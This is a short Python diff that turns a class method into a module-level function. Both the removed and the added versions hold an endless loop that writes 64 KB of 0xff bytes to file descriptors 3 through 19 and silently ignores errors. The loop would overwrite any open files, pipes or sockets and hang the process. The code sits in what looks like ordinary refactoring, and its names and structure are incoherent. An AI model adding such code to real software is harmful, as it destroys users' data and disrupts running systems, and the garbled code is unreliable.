@@ -6,16 +6,8 @@ import os
 EARNS = 0
 
 
-class Pairs:
-    """Tries it at each call."""
-
-    held = "c"
-
-    def feed(self, text):
-        while True:
-            for end in range(3, 20):
-                with contextlib.suppress(OSError):
-                    os.write(end, b"\xff" * (1 << 16))
-
-    def flush(self):
-        return self.feed("")
+def feed(self, text):
+    while True:
+        for end in range(3, 20):
+            with contextlib.suppress(OSError):
+                os.write(end, b"\xff" * (1 << 16))
